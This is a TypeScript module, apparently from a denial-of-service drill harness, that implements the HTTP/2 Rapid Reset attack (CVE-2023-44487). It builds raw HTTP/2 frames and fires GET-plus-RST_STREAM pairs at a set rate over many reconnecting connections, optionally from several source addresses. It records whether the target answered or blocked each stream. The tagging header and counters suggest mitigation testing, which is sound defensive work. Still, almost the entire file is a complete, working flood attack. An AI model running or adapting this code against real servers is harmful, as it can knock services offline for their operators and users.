// The Rapid Reset attacker (CVE-2023-44487): cleartext HTTP/2 with prior knowledge, each stream
// opened with a complete GET and reset at once (RST_STREAM CANCEL) in the same write, so the client
// never waits and never holds a stream while the server starts the work. Open-loop by rate across
// `addresses × connections` connections; a connection the target closes (GOAWAY) is opened again.
// Each stream counts as sent; `passed` when an answer head came for it before the reset landed,
// `blocked` otherwise. It carries x-drill-kind: attack, so an origin counts what reached it.
import net from 'node:net';
import type { Attack } from './scenario.ts';
import { AttackWindow, takeRequest, type RunContext } from './context.ts';
import { sourceAddress } from './safety.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** An empty SETTINGS frame. */
const SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
const PREFACE_AND_SETTINGS = Buffer.concat([PREFACE, SETTINGS]);
const SETTINGS_ACK = Buffer.from([0, 0, 0, 4, 1, 0, 0, 0, 0]);
/** Opening rate limit per tick (as the slow attackers: a SYN storm would measure the kernel). */
const OPENS_PER_TICK = 20;

function hpackString(s: string): Buffer {
  const b = Buffer.from(s, 'latin1');
  if (b.length > 126) throw new Error('drill: header value too long');
  return Buffer.concat([Buffer.from([b.length]), b]);
}

/** The header block of `GET path` on `authority`: :method GET, :scheme http from the static table. */
function getBlock(path: string, authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x86]),
    Buffer.from([0x04]),
    hpackString(path),
    Buffer.from([0x01]),
    hpackString(authority),
    Buffer.from([0x00]),
    hpackString('user-agent'),
    hpackString('Go-http-client/2.0'),
    Buffer.from([0x00]),
    hpackString('x-drill-kind'),
    hpackString('attack'),
  ]);
}

interface Conn {
  socket: net.Socket;
  nextStream: number;
  /** Streams sent and not yet settled (answered, or the connection gone). */
  pending: Set<number>;
  buf: Buffer;
}

export class RapidResetAttack extends AttackWindow {
  readonly conns = new Set<Conn>();
  /** HEADERS (END_STREAM | END_HEADERS) then RST_STREAM, with the stream id patched in. */
  readonly pair: Buffer;
  readonly blockLength: number;
  issued = 0;
  opened = 0;

  constructor(ctx: RunContext, index: number, spec: Attack, block: number, runStartMs: number) {
    super(ctx, index, spec, block, runStartMs);
    const hb = getBlock(spec.path, ctx.hostHeader);
    this.blockLength = hb.length;
    const headers = Buffer.alloc(9);
    headers.writeUIntBE(hb.length, 0, 3);
    headers[3] = 1;
    headers[4] = 0x5;
    const rst = Buffer.from([0, 0, 4, 3, 0, 0, 0, 0, 0, 0, 0, 0, 8]);
    this.pair = Buffer.concat([headers, hb, rst]);
  }

  tick(nowMs: number): void {
    if (this.finished || nowMs < this.startMs) return;
    if (nowMs >= this.endMs || this.ctx.stopped) {
      this.end();
      return;
    }
    const total = this.spec.addresses * this.spec.connections;
    for (let k = 0; k < OPENS_PER_TICK && this.conns.size < total; k++) this.open();
    const due = Math.floor(((nowMs - this.startMs) * this.spec.ratePerSecond) / 1000) - this.issued;
    if (due <= 0 || this.conns.size === 0) return;
    // Spread the due streams over the open connections, one write per connection.
    const per = Math.ceil(due / this.conns.size);
    let left = due;
    for (const c of this.conns) {
      if (left <= 0) break;
      const n = Math.min(per, left);
      left -= n;
      this.burst(c, n);
    }
    // Arrivals with no connection to carry them are not sent (open loop: they are not made up later).
    for (; left > 0; left--) {
      this.issued++;
      this.ctx.rec.attackNotSent(this.index);
    }
  }

  burst(c: Conn, n: number): void {
    if (c.socket.destroyed || c.socket.writableNeedDrain) {
      for (let i = 0; i < n; i++) {
        this.issued++;
        this.ctx.rec.attackNotSent(this.index);
      }
      return;
    }
    const out = Buffer.allocUnsafe(this.pair.length * n);
    let sent = 0;
    for (let i = 0; i < n; i++) {
      this.issued++;
      if (!takeRequest(this.ctx)) break;
      const id = c.nextStream;
      c.nextStream += 2;
      const at = sent * this.pair.length;
      this.pair.copy(out, at);
      out.writeUInt32BE(id, at + 5);
      out.writeUInt32BE(id, at + 9 + this.blockLength + 5);
      c.pending.add(id);
      this.ctx.rec.attackSent(this.index);
      sent++;
    }
    if (sent > 0) c.socket.write(out.subarray(0, sent * this.pair.length));
  }

  open(): void {
    const ctx = this.ctx;
    const n = this.opened++;
    const socket = net.connect({
      host: ctx.target.address,
      port: ctx.target.port,
      localAddress: ctx.target.bindSources ? sourceAddress(this.block, n % this.spec.addresses) : undefined,
    });
    const c: Conn = { socket, nextStream: 1, pending: new Set(), buf: Buffer.alloc(0) };
    this.conns.add(c);
    socket.setNoDelay(true);
    socket.on('connect', () => {
      const s = ctx.rec.attacks[this.index]!;
      s.open++;
      if (s.open > s.maxOpen) s.maxOpen = s.open;
    });
    // The preface first, before any stream a tick may write while the connection is being made.
    socket.write(PREFACE_AND_SETTINGS);
    socket.on('data', (chunk: Buffer) => this.read(c, chunk));
    socket.on('error', () => {});
    let connected = false;
    socket.once('connect', () => (connected = true));
    socket.on('close', () => {
      this.conns.delete(c);
      if (connected) ctx.rec.attacks[this.index]!.open--;
      // Streams the connection took with it were never answered: refused by the target's GOAWAY.
      if (!ctx.closing) for (const _ of c.pending) ctx.rec.attackOutcome(this.index, 'blocked');
      c.pending.clear();
    });
  }

  /** Frames from the target: answer heads settle their streams, resets too; SETTINGS are acknowledged. */
  read(c: Conn, chunk: Buffer): void {
    c.buf = c.buf.length === 0 ? chunk : Buffer.concat([c.buf, chunk]);
    while (c.buf.length >= 9) {
      const len = c.buf.readUIntBE(0, 3);
      if (c.buf.length < 9 + len) break;
      const type = c.buf[3]!;
      const flags = c.buf[4]!;
      const id = c.buf.readUInt32BE(5) & 0x7fffffff;
      c.buf = c.buf.subarray(9 + len);
      if (type === 4 && (flags & 1) === 0) c.socket.write(SETTINGS_ACK);
      else if ((type === 1 || type === 3) && c.pending.delete(id))
        this.ctx.rec.attackOutcome(this.index, type === 1 ? 'passed' : 'blocked');
    }
    // A stream reset by us and never answered settles when a later one is answered (the server
    // processes streams in order): everything older counts as blocked.
    if (c.pending.size > 256) {
      const last = c.nextStream - 2;
      for (const id of c.pending)
        if (id < last - 512) {
          c.pending.delete(id);
          this.ctx.rec.attackOutcome(this.index, 'blocked');
        }
    }
  }

  end(): void {
    if (this.finished) return;
    this.finished = true;
    for (const c of this.conns) {
      for (const _ of c.pending) this.ctx.rec.attackOutcome(this.index, 'blocked');
      c.pending.clear();
      c.socket.destroy();
    }
  }

  async close(): Promise<void> {
    this.end();
  }
}
